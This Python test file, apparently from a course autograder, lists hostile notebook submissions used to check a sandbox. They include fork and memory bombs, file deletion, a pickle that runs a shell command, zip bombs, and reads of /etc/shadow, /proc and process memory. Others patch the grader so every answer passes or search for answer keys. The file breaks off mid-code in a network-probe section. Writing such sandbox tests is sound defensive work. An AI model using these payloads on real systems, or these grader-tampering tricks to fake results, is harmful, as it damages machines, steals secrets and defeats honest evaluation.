"""The hostile class: what the cells do when they run. Never run them outside the sandbox."""

from cnncourse.grading.hostile_class import ALL, LOOT, Hostile

_SAID, _ENDS, _USES = "what it says", "how it ends", "what it uses up"
_PATCHES, _FORGES = "what it replaces", "answers forged in the outbox"
_LOOKS, _OUT, _WATCHED = "looking for the answers", "out of the sandbox", "being watched"
_ENDED = "ended the Python process"
_LATE = "did not finish within"

# Said and done ------------------------------------------------------------------------------------

_STDERR = """import os
import sys

print("W0000 could not load a library", file=sys.stderr)
os.write(2, b"more of it\\n")


{answer}"""
_WARNINGS = """import warnings

for kind in (DeprecationWarning, UserWarning, FutureWarning, RuntimeWarning):
    warnings.warn("careful", kind)
np.float64(1) / np.float64(0)
warnings.simplefilter("error")


{answer}"""
_FLOOD = """for _ in range(200):
    print("x" * 2**20)


{answer}"""
_SWALLOW = """import time

while True:
    try:
        while True:
            time.sleep(60)
    except BaseException:
        pass"""
_ENDLESS = "def feature_map(image, kernel, bias):\n    while True:\n        pass"


def _in_function(name: str, parameters: str, body: str) -> dict[str, str]:
    """An answer that does something else when the check calls it."""
    lines = "\n".join(f"    {line}" for line in body.split("\n"))
    return {name: f"def {name}({parameters}):\n{lines}"}


def _ending(id: str, what: str, body: str, says: str = _ENDED) -> Hostile:
    return Hostile(
        id,
        _ENDS,
        what,
        written={"flatten_batch": f"{body}\n\n\n{{answer}}"},
        states={"flatten_batch": "error"},
        says={"flatten_batch": says},
    )


_BEHAVIOUR = [
    Hostile("stderr", _SAID, "writes to stderr", written={"flatten_batch": _STDERR}),
    Hostile(
        "warnings",
        _SAID,
        "warns, and makes warnings errors afterwards",
        written={"flatten_batch": _WARNINGS},
    ),
    Hostile("flood", _SAID, "prints 200 MB", written={"flatten_batch": _FLOOD}),
    Hostile(
        "flood-of-bytes",
        _SAID,
        "writes 200 MB past Python's own output",
        cell="import os\n\nfor _ in range(200):\n    os.write(1, b'x' * 2**20)",
    ),
    Hostile(
        "input",
        _SAID,
        "asks a question",
        written={"flatten_batch": "size = input('Size? ')\n\n\n{answer}"},
        states={"flatten_batch": "error"},
        says={"flatten_batch": "StdinNotImplementedError"},
    ),
    Hostile(
        "endless",
        _ENDS,
        "an infinite loop in a function",
        written={"feature_map": _ENDLESS},
        states={"feature_map": "error"},
        says={"feature_map": _LATE},
    ),
    Hostile(
        "endless-cell",
        _ENDS,
        "an infinite loop in a cell",
        cell="while True:\n    pass",
        ran=False,
        anomalies=["An extra cell (it begins `while True:`) did not finish"],
    ),
    Hostile(
        "swallows-interrupts",
        _ENDS,
        "a loop that swallows interrupts",
        written={"flatten_batch": _SWALLOW},
        states={"flatten_batch": "error"},
        says={"flatten_batch": _LATE},
    ),
    Hostile(
        "endless-in-c",
        _ENDS,
        "a computation that cannot be interrupted",
        written={"flatten_batch": "7 ** (7 ** 30)"},
        states={"flatten_batch": "error"},
        says={"flatten_batch": _LATE},
    ),
    _ending("os-exit", "`os._exit(0)`", "import os\n\nos._exit(0)"),
    _ending(
        "sys-exit", "`sys.exit()` ahead of the answer", "import sys\n\nsys.exit(0)", "SystemExit"
    ),
    Hostile(
        "sys-exit-when-called",
        _ENDS,
        "`sys.exit()` in the function",
        written=_in_function("flatten_batch", "images", "import sys\nsys.exit('done')"),
        states={"flatten_batch": "error"},
        says={"flatten_batch": "SystemExit: done"},
    ),
    _ending("exit", "`exit()`", "exit()", "called exit() or quit()"),
    _ending("segfault", "a segmentation fault by `ctypes`", "import ctypes\n\nctypes.string_at(0)"),
    _ending("kill-itself", "kills itself", "import os\n\nos.kill(os.getpid(), 9)"),
    _ending("abort", "`os.abort()`", "import os\n\nos.abort()"),
    Hostile(
        "deep-recursion",
        _ENDS,
        "endless recursion",
        written=_in_function("flatten_batch", "images", "return flatten_batch(images)"),
        states={"flatten_batch": "error"},
        says={"flatten_batch": "RecursionError"},
    ),
    _ending(
        "stack-overflow",
        "recursion until the stack is used up",
        "import sys\n\nsys.setrecursionlimit(10**9)\n\n\nclass Deep:\n"
        "    def __getattr__(self, name):\n        return getattr(self, name + 'x')\n\n\n"
        "text = '(' * 10**6\nlevel = []\nfor _ in range(10**5):\n    level = [level]\n"
        "repr(level)\nDeep().x",
        says="",
    ),
    Hostile(
        "raises-anything",
        _ENDS,
        "raises an exception whose own methods fail",
        written=_in_function(
            "flatten_batch",
            "images",
            "class Odd(BaseException):\n    def __str__(self):\n        raise self\n"
            "    __repr__ = __str__\nraise Odd()",
        ),
        states={"flatten_batch": "error"},
        says={"flatten_batch": "raised Odd"},
    ),
    Hostile(
        "parser-traps",
        _ENDS,
        "sources on which a parser may break",
        cell="x = 0x" + "f" * 9000 + "\ny = " + "-" * 200 + "1",
        written={"flatten_batch": "y = " + "(" * 3000 + "\n\n\n{answer}"},
        states={"flatten_batch": "error"},
        says={"flatten_batch": "SyntaxError"},
    ),
    Hostile(
        "long-chain",
        _ENDS,
        "an expression of 50,000 terms",
        cell="y = " + "+".join(["1"] * 50_000),
        ran=False,
    ),
]

# Used up ------------------------------------------------------------------------------------------

_FORKS = """import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        time.sleep(1)"""
_MANY_FORKS = """import os

while True:
    try:
        os.fork()
    except OSError:
        pass"""
_MEMORY = """held = []
while True:
    held.append(bytearray(64 * 2**20))"""
_MEMORY_IN_PIECES = """import mmap

held = []
while True:
    held.append(mmap.mmap(-1, 16 * 2**20))
    held[-1].write(b"x" * (16 * 2**20))"""
_DISK = """import itertools

for folder in ("/tmp", "/dev/shm", "/outbox"):
    try:
        for number in itertools.count():
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"x" * 2**22)
    except OSError:
        pass"""
_INODES = """for folder in ("/tmp", "/outbox"):
    try:
        for number in range(20_000):
            open(f"{folder}/{number}", "w").close()
    except OSError:
        pass"""
_DESCRIPTORS = """held = []
try:
    while True:
        held.append(open("/dev/null"))
except OSError:
    pass
held.clear()"""
_THREADS = """import threading
import time


def disturb():
    while True:
        time.sleep(0.001)
        for name in ("flatten_batch", "conv2d"):
            try:
                with open(f"/outbox/{name}.txt", "w") as file:
                    file.write("junk")
            except OSError:
                pass


for daemon in (True, False):
    threading.Thread(target=disturb, daemon=daemon).start()"""

_GREED = [
    Hostile(
        "fork-bomb",
        _USES,
        "starts processes that stay",
        cell=_FORKS,
        ran=False,
        anomalies=["processes"],
    ),
    Hostile(
        "fork-bomb-of-forks",
        _USES,
        "starts processes that start processes",
        cell=_MANY_FORKS,
        ran=False,
        anomalies=["processes"],
    ),
    Hostile(
        "memory-bomb",
        _USES,
        "takes memory in one process",
        written={"flatten_batch": f"{_MEMORY}\n\n\n{{answer}}"},
        states={"flatten_batch": "error"},
        says={"flatten_batch": "MemoryError"},
    ),
    Hostile(
        "memory-bomb-in-pieces",
        _USES,
        "takes memory that no single limit counts",
        cell=_MEMORY_IN_PIECES,
        ran=False,
        anomalies=["of memory"],
    ),
    Hostile("full-disk", _USES, "fills every file system", cell=_DISK),
    Hostile("many-files", _USES, "40,000 files", cell=_INODES),
    Hostile("open-files", _USES, "opens files until none is left", cell=_DESCRIPTORS),
    Hostile("threads", _USES, "threads that go on and write into the outbox", cell=_THREADS),
]

# Replaced -----------------------------------------------------------------------------------------

_DELETE = """import os
import shutil

import cnncourse

for folder in ("/inbox", "/outbox", "/tmp", os.path.dirname(cnncourse.__file__),
               os.path.dirname(np.__file__), "@course@", "@home@"):
    shutil.rmtree(folder, ignore_errors=True)"""
_ENVIRONMENT = """import os
import sys

os.chdir("/")
os.umask(0o777)
sys.path.clear()
sys.stdout = sys.stderr = open("/dev/null", "w")"""
_NUMPY = """import numpy.testing

for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_almost_equal"):
    setattr(numpy.testing, name, lambda *args, **kwargs: None)
np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
np.ndarray = type("ndarray", (), {"__eq__": lambda self, other: True})
np.savez = lambda *args, **kwargs: None"""
_BUILTINS = """import builtins


class Anything(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


builtins.isinstance = lambda *args: True
builtins.float = Anything
builtins.abs = lambda value: 0
builtins.all = builtins.any = lambda values: True"""
_CHECK = """import cnncourse
import cnncourse.checking.compare
import cnncourse.checking.judge
import cnncourse.exercises.check


class Passed:
    state, points, max_points = "passed", 100, 100


cnncourse.checking.compare.compare = lambda *args, **kwargs: None
cnncourse.checking.judge.judge = lambda *args, **kwargs: Passed()
check = cnncourse.check = cnncourse.exercises.check.check = lambda *args, **kwargs: Passed()"""
_COLLECT = """from cnncourse.checking import collect

collect.collect = lambda answer, cases, kind: [
    collect.Answer("passed", "passed", changed_input=True) for case in cases
]"""
_EQUAL = """class Equal(np.ndarray):
    def __eq__(self, other):
        return True

    def __array__(self, *args, **kwargs):
        return np.full(3, np.nan)

    __hash__ = None"""
_EQUAL_ANSWER = """{answer}


honest_{name} = {name}
{name} = Equal(3) if not callable({name}) else lambda *args: np.full(3, 0.0).view(Equal)"""

_REPLACED = [
    Hostile(
        "deletes-files", _PATCHES, "deletes inbox, outbox, the package and the course", cell=_DELETE
    ),
    Hostile(
        "changed-folder",
        _PATCHES,
        "changes folder, file mask, import path and output",
        cell=_ENVIRONMENT,
        ran=False,
    ),
    Hostile(
        "no-environment",
        _PATCHES,
        "empties the environment",
        cell="import os\n\nos.environ.clear()",
        states={ALL: "error"},
        says={ALL: "No answer came out"},
    ),
    Hostile(
        "patched-numpy",
        _PATCHES,
        "NumPy compares as it likes",
        "wrong",
        cell=_NUMPY,
        states={ALL: "error"},
    ),
    Hostile(
        "patched-builtins",
        _PATCHES,
        "`isinstance`, `float`, `abs`, `all` replaced",
        "wrong",
        cell=_BUILTINS,
        states={ALL: "failed"},
        ran=False,
        anomalies=[_ENDED],
    ),
    Hostile(
        "patched-check",
        _PATCHES,
        "`check`, `judge` and `compare` always agree",
        "wrong",
        cell=_CHECK,
        states={ALL: "failed"},
    ),
    Hostile(
        "patched-collector",
        _PATCHES,
        "collects verdicts in place of answers",
        "wrong",
        cell=_COLLECT,
        states={ALL: "error"},
        says={ALL: "not an answer"},
    ),
    Hostile(
        "equal-to-everything",
        _PATCHES,
        "answers that say they equal everything",
        "wrong",
        cell=_EQUAL,
        written={ALL: _EQUAL_ANSWER},
        states={ALL: "failed"},
    ),
]

# Forged -------------------------------------------------------------------------------------------


def _forging(id: str, what: str, body: str, says: str = "", state: str = "error") -> Hostile:
    """A submission whose every answer file is written by ``forge(path, answers)``."""
    cell = (
        "import io\nimport json\nimport os\nimport zipfile\n\n"
        "from cnncourse.checking import wire\n\nwrite = wire.write\n\n\n"
        "def npz(path, **arrays):\n    np.savez(path, **arrays)\n\n\n"
        "def text(value):\n    return np.frombuffer(json.dumps(value).encode(), np.uint8)\n\n\n"
        f"def forge(path, answers):\n{_indented(body)}\n\n\nwire.write = forge"
    )
    return Hostile(
        id, _FORGES, what, "wrong", cell=cell, states={ALL: state}, says={ALL: says} if says else {}
    )


def _indented(text: str) -> str:
    return "\n".join(f"    {line}" if line else "" for line in text.split("\n"))


_PICKLE = """class Loot:
    def __reduce__(self):
        return os.system, ("touch @course@/PICKLED @home@/PICKLED /tmp/PICKLED-@mark@",)

items = np.empty(1, dtype=object)
items[0] = Loot()
npz(path, structure=items, a0=items)"""
_GIANT = """head = io.BytesIO()
np.lib.format.write_array_header_1_0(
    head, {"descr": "<f8", "fortran_order": False, "shape": (2**40,)}
)
with zipfile.ZipFile(path, "w") as archive:
    archive.writestr("structure.npy", head.getvalue())"""
_BOMB = """if "bomb" not in globals():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("structure.npy", bytes(70 * 2**20))
    globals()["bomb"] = made.getvalue()
open(path, "wb").write(bomb)"""
_FORGED_SIZES = (
    _BOMB
    + """
raw = bytearray(open(path, "rb").read())
at = raw.rindex(b"PK\\x01\\x02")
raw[at + 10 : at + 12] = b"\\0\\0"
raw[at + 20 : at + 28] = (64).to_bytes(4, "little") * 2
open(path, "wb").write(raw)"""
)
_NAN = """for answer in answers:
    answer["value"] = np.full(np.shape(answer["value"]), np.nan)
write(path, answers)"""

_FORGERIES = [
    _forging("forged-nan", "NaN everywhere", _NAN, state="failed"),
    _forging(
        "forged-objects",
        "object arrays with a pickle that runs a command",
        _PICKLE,
        "could not be read",
    ),
    _forging(
        "forged-pickle",
        "a plain pickle",
        "import pickle\n"
        + _PICKLE.replace(
            "npz(path, structure=items, a0=items)", "open(path, 'wb').write(pickle.dumps(items))"
        ),
        "could not be read",
    ),
    _forging(
        "forged-dtype",
        "records, dates and text in place of numbers",
        "for answer in answers:\n    answer['value'] = np.array(['1', '2'])\nwrite(path, answers)",
        state="failed",
    ),
    _forging(
        "forged-records",
        "a structured array as the structure",
        "npz(path, structure=np.zeros(3, dtype=[('a', 'f8'), ('b', 'M8[s]')]))",
        "could not be read",
    ),
    _forging("forged-giant", "a header that announces 8 TB", _GIANT, "could not be read"),
    _forging(
        "forged-large",
        "an answer of 90 MB",
        "npz(path, structure=np.zeros(90 * 2**20, np.uint8))",
        "could not be read",
    ),
    _forging("zip-bomb", "70 MB of zeros, compressed", _BOMB, "could not be read"),
    _forging(
        "zip-bomb-forged",
        "the same, its sizes forged in the archive's list",
        _FORGED_SIZES,
        "could not be read",
    ),
    _forging(
        "forged-many",
        "5,000 arrays",
        "npz(path, **{f'a{n}': np.zeros(1) for n in range(5000)})",
        "could not be read",
    ),
    _forging(
        "forged-nesting",
        "a structure of 100,000 levels",
        "npz(path, structure=np.frombuffer(b'[' * 10**5 + b']' * 10**5, np.uint8))",
        "could not be read",
    ),
    _forging(
        "forged-shared",
        "one array named a thousand times",
        "many = [{'array': 'a0'}] * 1000\n"
        "npz(path, structure=text({'list': many}), a0=np.zeros(2**20))",
        "could not be read",
    ),
    _forging(
        "forged-link",
        "a link to the gradebook",
        "os.symlink('@course@/gradebook.db', path)",
        "could not be read",
    ),
    _forging(
        "forged-link-to-questions",
        "a link to the questions",
        "os.symlink('/inbox/' + os.path.basename(path), path)",
        "could not be read",
    ),
    _forging(
        "forged-pipe", "a named pipe that nobody writes to", "os.mkfifo(path)", "could not be read"
    ),
    _forging(
        "forged-socket",
        "a socket",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind(str(path))",
        "could not be read",
    ),
    _forging(
        "forged-folder",
        "a folder, with more inside",
        "os.makedirs(str(path) + '/a/b')\nos.symlink('/', str(path) + '/root')",
        "could not be read",
    ),
    _forging(
        "forged-device",
        "a link to an endless device",
        "os.symlink('/dev/zero', path)",
        "could not be read",
    ),
    _forging(
        "forged-verdict",
        "a verdict in place of an answer",
        "npz(path, structure=text({'dict': {'state': 'passed', 'points': 100}}))",
        "could not be read",
    ),
    _forging(
        "forged-states",
        "answers that say they passed",
        "for answer in answers:\n    answer['state'] = 'passed'\nwrite(path, answers)",
        "could not be read",
    ),
    _forging("too-few-answers", "no answer to any case", "write(path, [])", "0 answers came out"),
    _forging(
        "too-many-answers", "every answer twice", "write(path, answers * 2)", "answers came out for"
    ),
    _forging(
        "forged-elsewhere",
        "files for other exercises, none for this one",
        "for name in ('conv2d', 'edge_kernel', 'map_shape'):\n"
        "    write('/outbox/x' + name + '.npz', answers)",
        "No answer came out",
    ),
]

# Looked for ---------------------------------------------------------------------------------------

_USE_STOLEN = "{answer}\n\n\n{name} = stolen.get('{name}', {name})"
_STOLEN = "stolen = {}\n"
_IMPORTS = (
    _STOLEN
    + f"""
import importlib
import importlib.util
import os
import pkgutil
import sys

import cnncourse

root = os.path.dirname(cnncourse.__file__)
for name in ("exercises.lesson_01", "exercises.lesson_02", "grading.grader", "grading.course",
             "grading.example_class", "grading.hostile_class", "authoring", "cli"):
    try:
        module = importlib.import_module("cnncourse." + name)
        print("{LOOT}", module)
        stolen |= {{e.name: e.reference for e in getattr(module, "EXERCISES", ())}}
    except Exception:
        pass
    for file in (name.replace(".", "/") + ".py",
                 "exercises/__pycache__/lesson_01.cpython-%d%d.pyc" % sys.version_info[:2]):
        spec = importlib.util.spec_from_file_location("x", root + "/" + file)
        try:
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            print("{LOOT}", file)
        except Exception:
            pass
for name in list(sys.modules):
    if "exercises.lesson" in name:
        print("{LOOT}", name)
for module in pkgutil.walk_packages(cnncourse.__path__, "cnncourse.", onerror=lambda name: None):
    if "lesson_" in module.name and "figures" not in module.name:
        print("{LOOT}", module.name)"""
)
_REGISTRY = (
    _STOLEN
    + f"""
import cnncourse

for name in ("dense_parameters", "conv2d", "edge_kernel"):
    for route in ("exercises.get", "exercises.registry.get", "exercises.lesson"):
        try:
            stolen[name] = eval("cnncourse." + route)(name).reference
            print("{LOOT}", name)
        except Exception:
            pass
from cnncourse import check

print("{LOOT}" if "not given" not in str(check.hint("conv2d")) else "no hint")"""
)
_FRAMES = (
    _STOLEN
    + f"""
import gc
import inspect
import sys
import threading
import types

for text in globals().get("In", []):
    if "Exerc" + "ise(" in text:
        print("{LOOT}", text)
frames = list(sys._current_frames().values())
seen = set()
while frames:
    frame = frames.pop()
    if frame is None or id(frame) in seen:
        continue
    seen.add(id(frame))
    frames.append(frame.f_back)
    for name, value in {{**frame.f_globals, **frame.f_locals}}.items():
        if name in ("expected", "reference", "seed", "answers_expected", "truth"):
            print("{LOOT}", name)
gc.unfreeze()
for item in gc.get_objects():
    if type(item).__name__ in ("Exercise", "Misconception", "Assignment", "Rebuilt", "Result"):
        print("{LOOT}", type(item).__name__)
    if isinstance(item, types.FunctionType) and "lesson_0" in item.__code__.co_filename:
        if "exercises" in item.__code__.co_filename:
            print("{LOOT}", item)"""
)
_WHEN_CALLED = f"""import sys


def look():
    frame = sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "reference", "seed", "truth", "exercise"):
                print("{LOOT}", name)
            if type(value).__name__ in ("Case",) and (value.truth is not None or value.label):
                print("{LOOT}", value)
        frame = frame.f_back"""
_CALLS_LOOK = """{answer}


def watched(function):
    def call(*args):
        look()
        return function(*args)

    return call


{name} = watched({name}) if callable({name}) else {name}"""
_UP = "root"  # apart, so that this file names no folder of a machine
_FILES = f"""import os

starts = (
    "@course@", "@home@", "/root", "/home", "/srv", "/var", "/work", "/mnt", "/etc/shadow", "/",
    "/proc/1/root@course@", "/proc/1/cwd", "/proc/self/{_UP}/..@course@", "/inbox/../..@course@",
)
for start in starts:
    try:
        print("{LOOT}", open(start).read())
    except OSError:
        pass
    for base, folders, files in os.walk(start):
        # Not the libraries, which everybody has.
        folders[:] = [f for f in folders if f not in ("site-packages", "proc", "usr", "sys", "lib")]
        for name in files:
            if name.endswith((".ipynb", ".db", ".env")) or name in ("CANARY", "seed.json"):
                print("{LOOT}", base, name)"""
_QUESTIONS = f"""import os

from cnncourse.checking import wire

for name in sorted(os.listdir("/inbox")):
    questions = wire.read(f"/inbox/{{name}}")
    if set(questions) != {{"kind", "cases"}}:
        print("{LOOT}", set(questions))
    for case in questions["cases"]:
        if set(case) != {{"args", "kwargs"}}:
            print("{LOOT}", set(case))
for folder in ("/outbox", "/tmp", "/tmp/work", "/tmp/home", "/dev/shm"):
    for name in os.listdir(folder):
        if name not in ("work", "home") and not name.endswith(".npz"):
            print("{LOOT}" if "CANARY" in name else "there is", folder, name)"""
_INHERITED = f"""import ctypes
import gc
import os
import re

# Its own memory, around every object that it was forked with. The texts stand here backwards, so
# that this search does not find itself. The last one is there for everybody, and must be found.
texts = [
    ".saib a sah osla tinu hcaE .sthgiew eht detnuoc uoY", "@terces@",
    "dedarg si koobeton a elihw nevig ton era stniH",
]
searches = [
    (text[-12:][::-1].encode(), re.compile("".join(f"[{{c}}]" for c in reversed(text)).encode()))
    for text in texts
]
gc.unfreeze()
size = 2**16
begins = {{id(item) // 2**20 for item in gc.get_objects()}}
places = {{at for begin in begins for at in (begin - 1, begin, begin + 1)}}
libc = ctypes.CDLL(None)
out, into = os.pipe()
found = [0] * len(texts)
for place in places:
    for at in range(place * 2**20, (place + 1) * 2**20, size):
        count = libc.write(into, ctypes.c_void_p(at), size)  # an error where no memory is
        part = os.read(out, count) if count > 0 else b""
        for number, (piece, whole) in enumerate(searches):
            if piece in part and whole.search(part):
                found[number] += 1
if found[0] or found[1]:
    print("{LOOT} memory")
assert found[2], (len(begins), found)
os.close(out)
os.close(into)

numbers = [n for n in range(4096) if os.path.lexists(f"/proc/self/fd/{{n}}")]
for number in numbers:
    shown = os.readlink(f"/proc/self/fd/{{number}}")
    if number > 3 or not shown.startswith(("/dev/null", "socket:")):
        print("{LOOT} descriptor", number, shown)
secret = "".join(reversed("@terces@"))
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/2/environ", "/proc/self/cmdline",
             "/proc/1/cmdline", "/proc/self/mountinfo"):
    try:
        if secret.encode() in open(path, "rb").read():
            print("{LOOT}", path)
    except OSError:
        pass
if secret in str(os.environ):
    print("{LOOT} environment")
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    if int(status[name], 16):
        print("{LOOT}", name, status[name])
if os.getuid() == 0 or os.geteuid() == 0:
    print("{LOOT} root")
for number in range(1, 400):
    if str(number) in os.listdir("/proc") and number not in (1, 2, os.getpid()):
        print("{LOOT} process", number)"""
_PROC = f"""import os

for pid in sorted(int(n) for n in os.listdir("/proc") if n.isdigit()):
    if pid == os.getpid():
        continue
    for name in ("environ", "mem", "cwd", "root", "fd", "maps", "exe"):
        path = f"/proc/{{pid}}/{{name}}"
        try:
            if name in ("cwd", "root"):
                got = [n for n in os.listdir(path) if n == "CANARY" or n == "gradebook.db"]
            elif name == "fd":
                got = [os.readlink(f"{{path}}/{{n}}") for n in os.listdir(path)]
                got = [n for n in got if "@course@" in n]
            else:
                got = "@terces@"[::-1].encode() in open(path, "rb").read(10**6)
            if got:
                print("{LOOT}", path, got)
        except OSError:
            pass"""
_DETOUR = """import sys
import cnncourse


def steal():
    return DETOUR


def conv2d(image, kernels, biases, stride):
    return steal().conv2d(image, kernels, biases, stride=stride)"""


def _detour(id: str, what: str, expression: str) -> Hostile:
    """An answer by hand that is no such thing: what the exercise forbids, reached by a detour."""
    return Hostile(
        id,
        _LOOKS,
        what,
        "wrong",
        written={"conv2d": _DETOUR.replace("DETOUR", expression)},
        states={"conv2d": "failed"},
        says={"conv2d": _BY_HAND},
    )


_BY_HAND = "This exercise is by hand"
_PATCH_A_LIBRARY = """import importlib

ready = importlib.import_module("cnncourse.ops")
np.my_convolution = lambda image, kernels, biases, stride: ready.conv2d(
    image, kernels, biases, stride=stride
)"""

_KEEP_IN_A_DICTIONARY = """from cnncourse import ops

tools = {}
tools["convolve"] = lambda image, kernels, biases, stride: ops.conv2d(
    image, kernels, biases, stride=stride
)"""

# Six answers each, with nothing in them but what is ready-made; all are refused by their text.
_DISGUISES = {
    "detour-by-other-names": (
        "a forbidden function under another's name: as a parameter elsewhere, by `*`, by an alias",
        {
            "window_product": """def unused(np):
    pass


def window_product(window, kernel, bias):
    return np.convolve(np.ravel(window), np.ravel(kernel)[::-1], "valid")[0] + bias""",
            "feature_map": """def unused(exec):
    pass


found = {}
exec("from cnncourse.ops import cross_correlate2d as ready", found)


def feature_map(image, kernel, bias):
    return found["ready"](image, kernel) + bias""",
            "depth_map": """from cnncourse import figures as f

g = f


def depth_map(image, kernel, bias):
    ready = g.explorers.sliding.ops
    return ready.conv2d(image[None], kernel[..., None])[0, :, :, 0] + bias""",
            "filter_maps": """from cnncourse.ops import *


def filter_maps(image, kernels, biases):
    return conv2d(image[None], kernels, biases)[0]""",
            "conv2d": """def library():
    return ops


from cnncourse import ops

ready = library()
ops = 0


def conv2d(image, kernels, biases, stride):
    return ready.conv2d(image[None], kernels, biases, stride=stride)[0]""",
            "true_convolution": """from cnncourse import ops as ready

holder = [ready][0]


def true_convolution(image, kernel):
    return holder.convolve2d(image, kernel)""",
        },
    ),
    "detour-by-files": (
        "a forbidden function by a module of their own, `pkgutil`, a cell that is run, attributes",
        {
            "window_product": """from operator import attrgetter

ready = attrgetter("convolve")(np)


def window_product(window, kernel, bias):
    return ready(np.ravel(window), np.ravel(kernel)[::-1], "valid")[0] + bias""",
            "feature_map": """from cnncourse.figures import explorers


def feature_map(image, kernel, bias):
    ready = explorers.sliding.__dict__["ops"]
    return ready.cross_correlate2d(image, kernel) + bias""",
            "depth_map": """import cnncourse.ops as c


def depth_map(image, kernel, bias):
    ready = vars(c)["conv2d"]
    return ready(image[None], kernel[..., None])[0, :, :, 0] + bias""",
            "filter_maps": """import pkgutil

ready = pkgutil.resolve_name("cnncourse.ops:conv2d")


def filter_maps(image, kernels, biases):
    return ready(image[None], kernels, biases)[0]""",
            "conv2d": """get_ipython().run_cell("from cnncourse.ops import conv2d as ready")


def conv2d(image, kernels, biases, stride):
    return ready(image[None], kernels, biases, stride=stride)[0]""",
            "true_convolution": """with open("mine.py", "w") as file:
    file.write("from cnncourse.ops import convolve2d as ready")
import mine


def true_convolution(image, kernel):
    return mine.ready(image, kernel)""",
        },
    ),
    "detour-by-objects": (
        "a forbidden function from what holds it: builtins, globals, classes, code, a shell",
        {
            "window_product": """def window_product(window, kernel, bias):
    match np.ravel:
        case object(__globals__=found):
            pass
    ready = np.ma.convolve
    return ready(np.ravel(window), np.ravel(kernel)[::-1], "valid")[0] + bias""",
            "feature_map": """ready = __builtins__.__import__("cnncourse.ops").ops


def feature_map(image, kernel, bias):
    return ready.cross_correlate2d(image, kernel) + bias""",
            "depth_map": """import inspect
import cnncourse.ops as c

ready = inspect.unwrap(dict(inspect.getmembers(c))["conv2d"])


def depth_map(image, kernel, bias):
    return ready(image[None], kernel[..., None])[0, :, :, 0] + bias""",
            "filter_maps": """import pickle

ready = pickle.loads(b"ccnncourse.ops\\nconv2d\\n.")


def filter_maps(image, kernels, biases):
    return ready(image[None], kernels, biases)[0]""",
            "conv2d": """%%time
from ctypes import py_object

ready = object.__getattribute__(figures.flattened, "__globals__")


def conv2d(image, kernels, biases, stride):
    import cnncourse.ops

    return cnncourse.ops.conv2d(image[None], kernels, biases, stride=stride)[0]""",
            "true_convolution": """import runpy
import subprocess

ready = runpy.run_module("cnncourse.ops.convolution")["convolve2d"]


def true_convolution(image, kernel):
    return ready(image, kernel)""",
        },
    ),
}

_SIX = tuple(next(iter(_DISGUISES.values()))[1])

_SEARCHES = [
    Hostile(
        "steals-by-import",
        _LOOKS,
        "imports declarations, compiled ones too",
        "wrong",
        cell=_IMPORTS,
        written={ALL: _USE_STOLEN},
        states={ALL: "failed"},
    ),
    Hostile(
        "steals-from-registry",
        _LOOKS,
        "asks the course's own register",
        "wrong",
        cell=_REGISTRY,
        written={ALL: _USE_STOLEN},
        states={ALL: "failed"},
    ),
    Hostile(
        "steals-from-frames",
        _LOOKS,
        "`In`, frames, `gc`",
        "wrong",
        cell=_FRAMES,
        written={ALL: _USE_STOLEN},
    ),
    Hostile(
        "steals-when-called",
        _LOOKS,
        "the frames of whoever calls its functions",
        "wrong",
        cell=_WHEN_CALLED,
        written={ALL: _CALLS_LOOK},
        # Those by hand are refused for the frames.
        states=dict.fromkeys(_SIX, "failed"),
    ),
    Hostile("steals-from-files", _LOOKS, "searches the file system", "wrong", cell=_FILES),
    Hostile("reads-the-questions", _LOOKS, "reads inbox and outbox", "wrong", cell=_QUESTIONS),
    Hostile(
        "reads-what-it-inherits",
        _LOOKS,
        "descriptors, environment, rights and memory of the process it was forked from",
        "wrong",
        cell=_INHERITED,
    ),
    Hostile(
        "reads-other-processes", _LOOKS, "memory and files of other processes", "wrong", cell=_PROC
    ),
    _detour(
        "detour-by-import",
        "a forbidden function by `__import__`",
        "__import__('cnncourse.' + 'ops').ops",
    ),
    _detour(
        "detour-by-importlib",
        "a forbidden function by `importlib`",
        "__import__('importlib').import_module('cnncourse.ops')",
    ),
    _detour(
        "detour-by-exec",
        "a forbidden function by `exec`",
        "exec('import cnncourse.ops as o', globals()) or globals()['o']",
    ),
    _detour(
        "detour-by-getattr", "a forbidden function by `getattr`", "getattr(cnncourse, 'o' + 'ps')"
    ),
    _detour(
        "detour-by-modules",
        "a forbidden function from `sys.modules`",
        "sys.modules['cnncourse.' + 'ops']",
    ),
    *(
        Hostile(
            id,
            _LOOKS,
            what,
            "wrong",
            written=written,
            states=dict.fromkeys(written, "failed"),
            says=dict.fromkeys(written, _BY_HAND),
        )
        for id, (what, written) in _DISGUISES.items()
    ),
    *(
        Hostile(
            id,
            _LOOKS,
            what,
            "wrong",
            cell=cell,
            written={"conv2d": answer, **more},
            states={ALL if "patch" in id else "conv2d": "failed", **dict.fromkeys(more, "failed")},
            says={"conv2d": _BY_HAND},
        )
        for id, what, cell, answer, more in (
            (
                "detour-by-patch",
                "a forbidden function hidden in NumPy by another cell",
                _PATCH_A_LIBRARY,
                "conv2d = np.my_convolution",
                {},
            ),
            (
                "detour-by-dictionary",
                "a forbidden function kept in a dictionary",
                _KEEP_IN_A_DICTIONARY,
                "conv2d = tools['convolve']",
                {},
            ),
            (
                "detour-by-neighbour",
                "a forbidden function brought along by another answer's cell",
                "",
                "def conv2d(image, kernels, biases, stride):\n"
                "    return ready.conv2d(image, kernels, biases, stride=stride)",
                {"flatten_batch": "from cnncourse import ops as ready\n\n\n{answer}"},
            ),
        )
    ),
]

# Out ----------------------------------------------------------------------------------------------

_NETWORK = f"""import socket
import urllib.request

for address in (("127.0.0.1", @port@), ("::1", @port@), ("localhost", @port@), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=1).send(b"hello")
        print("{LOOT}", address)
    except OSError:
        pass
try:
